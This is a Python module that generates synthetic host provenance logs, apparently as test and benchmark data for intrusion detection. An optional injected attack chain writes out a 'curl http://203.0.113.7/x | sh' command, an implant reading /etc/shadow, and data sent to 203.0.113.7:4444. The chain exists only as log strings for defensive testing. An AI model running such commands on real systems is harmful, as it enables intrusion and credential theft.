"""Small synthetic provenance logs for fixtures, demos and benchmarks."""

from __future__ import annotations

import numpy as np

from .events import EntityType, EventType, LogEvent

EPOCH_NS = 1_700_000_000 * 1_000_000_000

_PROGRAMS = [
    "/usr/sbin/sshd -D", "/usr/sbin/nginx -g daemon off;", "/bin/bash --login",
    "/usr/bin/python3 /opt/app/worker.py", "/usr/sbin/cron -f", "/usr/bin/git fetch origin",
    "/usr/lib/postgresql/14/bin/postgres -D /var/lib/postgresql/14/main",
]
_FILES = [
    "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/etc/nginx/nginx.conf",
    "/var/log/nginx/access.log", "/var/log/syslog", "/var/log/auth.log",
    "/home/alice/.bashrc", "/home/alice/project/main.py", "/opt/app/config.yaml",
    "/usr/lib/x86_64-linux-gnu/libc.so.6", "/tmp/session.lock",
    "/var/lib/postgresql/14/main/base/16384/2619",
]
_SOCKETS = ["10.0.0.5:5432", "10.0.0.9:443", "192.168.1.20:22", "10.0.0.7:6379", "8.8.8.8:53"]


def _ev(ts, etype, skey, stype, sattr, okey, otype, oattr) -> LogEvent:
    return LogEvent(int(ts), etype, skey, stype, sattr, okey, otype, oattr)


def synthetic_log(
    n_intervals: int = 3,
    interval_s: float = 15.0,
    events_per_interval: int = 120,
    seed: int = 0,
    attack_interval: int | None = None,
    scratch_prob: float = 0.0,
) -> list[LogEvent]:
    """Benign host activity, plus an intrusion chain in ``attack_interval``.

    ``scratch_prob`` sends that share of file events to a fresh temp path, so
    the graph keeps growing instead of saturating on the fixed file set.
    """
    rng = np.random.default_rng(seed)
    procs = [(f"proc:{i}", _PROGRAMS[i]) for i in range(len(_PROGRAMS))]
    next_pid = 1000
    events = []
    span = int(interval_s * 1e9)
    for iv in range(n_intervals):
        offsets = np.sort(rng.integers(0, span, events_per_interval))
        for off in offsets:
            ts = EPOCH_NS + iv * span + int(off)
            pkey, pattr = procs[int(rng.integers(len(procs)))]
            r = rng.random()
            if r < 0.55:
                if rng.random() < scratch_prob:
                    f = f"/tmp/build-{iv}/obj_{int(rng.integers(1 << 32)):08x}.o"
                else:
                    f = _FILES[int(rng.integers(len(_FILES)))]
                et = [EventType.READ, EventType.WRITE, EventType.OPEN, EventType.CLOSE][int(rng.integers(4))]
                events.append(_ev(ts, et, pkey, EntityType.PROCESS, pattr, f"file:{f}", EntityType.FILE, f))
            elif r < 0.85:
                s = _SOCKETS[int(rng.integers(len(_SOCKETS)))]
                et = [EventType.CONNECT, EventType.SEND, EventType.RECV][int(rng.integers(3))]
                events.append(_ev(ts, et, pkey, EntityType.PROCESS, pattr, f"sock:{s}", EntityType.SOCKET, s))
            else:
                child = f"proc:{next_pid}"
                next_pid += 1
                cattr = _PROGRAMS[int(rng.integers(len(_PROGRAMS)))]
                events.append(_ev(ts, EventType.FORK, pkey, EntityType.PROCESS, pattr, child, EntityType.PROCESS, cattr))
                if len(procs) < 40:
                    procs.append((child, cattr))
        if attack_interval == iv:
            t0 = EPOCH_NS + iv * span + span // 2
            web = ("proc:1", _PROGRAMS[1])
            sh = ("proc:66601", "/bin/sh -c curl -s http://203.0.113.7/x | sh")
            implant = ("proc:66602", "/tmp/.cache/.x/kworkerd --daemon")
            chain = [
                (EventType.FORK, web, sh, EntityType.PROCESS),
                (EventType.EXEC, sh, implant, EntityType.PROCESS),
                (EventType.READ, implant, ("file:/etc/shadow", "/etc/shadow"), EntityType.FILE),
                (EventType.CONNECT, implant, ("sock:203.0.113.7:4444", "203.0.113.7:4444"), EntityType.SOCKET),
                (EventType.WRITE, implant, ("file:/tmp/.cache/.x/loot.tar", "/tmp/.cache/.x/loot.tar"), EntityType.FILE),
                (EventType.SEND, implant, ("sock:203.0.113.7:4444", "203.0.113.7:4444"), EntityType.SOCKET),
            ]
            for j, (et, (skey, sattr), (okey, oattr), otype) in enumerate(chain):
                events.append(_ev(t0 + j * 1000, et, skey, EntityType.PROCESS, sattr, okey, otype, oattr))
    events.sort(key=lambda e: e.ts)
    return events
